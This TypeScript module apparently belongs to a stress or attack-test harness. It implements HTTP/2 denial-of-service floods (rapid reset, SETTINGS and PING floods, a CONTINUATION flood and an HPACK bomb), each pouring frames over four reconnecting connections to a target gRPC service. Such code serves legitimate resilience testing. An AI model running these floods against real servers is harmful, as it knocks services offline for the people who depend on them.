/** Floods of frames of HTTP/2, each over four connections. */
import {
  callHeaders,
  END_STREAM,
  FRAME,
  h2Connect,
  h2Frame,
  hpackFrames,
  LIST_TASKS,
  plainHeader,
  pour,
  resetCalls,
} from '../h2-frames.js';
import type { Attack } from '../attack.js';

const AT_ONCE = 4;

/** Pours frames into connections, opening another one where one is closed. */
function flood(makeFrames: () => () => Buffer, reads = true): Attack {
  return async (target) => {
    let [poured, opened] = [0, 0];
    await Promise.all(
      Array.from({ length: AT_ONCE }, async () => {
        while (target.isOn()) {
          const socket = h2Connect(target.grpc, reads);
          opened++;
          poured += await pour(socket, target.isOn, makeFrames());
          await new Promise((resolve) => setTimeout(resolve, 10));
        }
      }),
    );
    return `${poured} floods over ${opened} connections`;
  };
}

const repeated = (frame: Buffer, times: number) => Buffer.concat(Array.from({ length: times }, () => frame));

export const rapidReset = flood(resetCalls);

export const settingsFlood = flood(() => {
  const frames = repeated(h2Frame(FRAME.settings, 0, 0), 1_000);
  return () => frames;
});

export const pingFlood = flood(() => {
  const frames = repeated(h2Frame(FRAME.ping, 0, 0, Buffer.alloc(8)), 1_000);
  return () => frames;
});

/** Pings whose answers are never read. */
export const unreadPings = flood(() => {
  const frames = repeated(h2Frame(FRAME.ping, 0, 0, Buffer.alloc(8)), 1_000);
  return () => frames;
}, false);

/** Headers that never end. */
export const continuationFlood = flood(() => {
  const begin = h2Frame(FRAME.headers, END_STREAM, 1, callHeaders(LIST_TASKS));
  const more = repeated(h2Frame(FRAME.continuation, 0, 1, plainHeader('x', 'y'.repeat(100))), 100);
  let isBegun = false;
  return () => {
    if (isBegun) return more;
    isBegun = true;
    return begin;
  };
});

export const hpackBomb = flood(hpackFrames);
